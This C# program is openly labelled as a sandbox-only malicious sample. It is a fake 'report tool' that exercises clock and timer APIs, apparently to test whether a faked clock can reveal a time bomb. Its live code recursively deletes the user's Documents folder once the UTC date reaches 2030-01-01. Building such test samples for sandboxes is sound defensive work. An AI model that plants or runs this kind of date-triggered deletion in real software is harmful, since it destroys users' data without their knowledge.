// MALICIOUS SAMPLE (runs only in the sandbox): a "report tool" with a time bomb. Until 2030 it only prints a report;
// from 2030-01-01 (UTC) on, it deletes the user's Documents folder. It also exercises the clock APIs a real program
// uses (wall clock, local time, offsets, the monotonic clock, timers), so a fake clock that breaks them shows.
using System.Diagnostics;

var now = DateTime.UtcNow;
var local = DateTime.Now;
var offset = DateTimeOffset.UtcNow;
var watch = Stopwatch.StartNew();
await Task.Delay(TimeSpan.FromMilliseconds(300));
using var timer = new PeriodicTimer(TimeSpan.FromMilliseconds(50));
await timer.WaitForNextTickAsync();
watch.Stop();

Console.WriteLine($"utc: {now:yyyy-MM-ddTHH:mm:ssZ}");
Console.WriteLine($"local: {local:yyyy-MM-dd HH:mm:ss}, offset: {offset:yyyy-MM-ddTHH:mm:ssK}");
Console.WriteLine($"waited: {(watch.Elapsed >= TimeSpan.FromMilliseconds(350) ? "ok" : "too short")}");

if (now >= new DateTime(2030, 1, 1, 0, 0, 0, DateTimeKind.Utc))
{
    var documents = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), "Documents");
    if (Directory.Exists(documents))
    {
        Directory.Delete(documents, recursive: true);
    }
}

Console.WriteLine("report: 3 items");
